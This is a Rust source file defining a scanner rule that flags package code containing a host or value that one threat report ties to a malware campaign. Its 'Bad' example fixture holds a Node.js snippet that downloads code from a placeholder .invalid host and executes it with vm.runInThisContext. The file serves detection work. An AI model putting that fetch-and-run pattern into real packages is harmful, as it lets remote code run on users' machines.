//! # A value that one source ascribes to a campaign stands in the code
//!
//! A host, address or text that one source ascribes to a campaign stands in a script or manifest, or a file bears a name
//! that a campaign used.
//!
//! ## Why it matters
//!
//! One report may err, and a file's name is anybody's choice. Beside another pattern it says which campaign this most
//! likely is.
//!
//! ## Known benign uses
//!
//! Scanners and blocklists; addresses that were given to somebody else after a campaign; files that happen to have the
//! same name. So it never decides alone.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { get } = require("node:https");
//! get("https://stockade-selftest-one-source.invalid/b", (response) => { //~ here
//!   let body = "";
//!   response.on("data", (chunk) => { body += chunk; });
//!   response.on("end", () => require("vm").runInThisContext(body));
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.home = "https://stockade-selftest-one-source.invalid.example/";
//! ```
//!
//! ## References
//!
//! - The sources named in the finding

use crate::prelude::*;

/// A value that one source ascribes to a campaign stands in the code.
pub struct SingleSourceIndicator;

impl Rule for SingleSourceIndicator {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "single-source-indicator",
            title: "A value that one source ascribes to a campaign stands in the code",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1195.002",
            covers: &[],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for value in facts.known_values().iter().filter(|value| !value.is_sure()) {
            let indicator = value.indicator;
            let does = format!(
                "has `{}` as in the campaign `{}`",
                excerpt(&indicator.value, 80),
                indicator.record.campaign_name
            );
            found.at(value.trigger, &value.locus, &does);
        }
    }
}
